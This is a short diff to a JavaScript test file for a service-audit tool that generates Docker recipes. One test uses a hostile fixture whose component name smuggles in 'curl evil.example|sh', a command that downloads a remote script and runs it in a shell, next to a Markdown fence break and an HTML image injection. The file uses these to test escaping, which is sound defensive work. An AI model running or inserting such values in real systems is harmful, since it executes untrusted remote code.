@@ -25,7 +25,7 @@ test('a service that has an image is not', () => {
   expect(audit(memoryTree(files), { today: '2026-11-22' })).not.toHaveProperty('recipes');
 });
 
-const recipe = { component: 'api', dockerfile: 'FROM a\n', dockerignore: '.git\n', notes: [] };
+const recipe = { component: 'api', context: null, dockerfile: 'FROM a\n', dockerignore: '.git\n', notes: [] };
 
 test('nothing in the files ends the block, and no path becomes part of a command to copy', () => {
   const hostile = { ...recipe, component: 'a; curl evil.example|sh', dockerfile: 'FROM a\n```\n<img src=x>\n' };
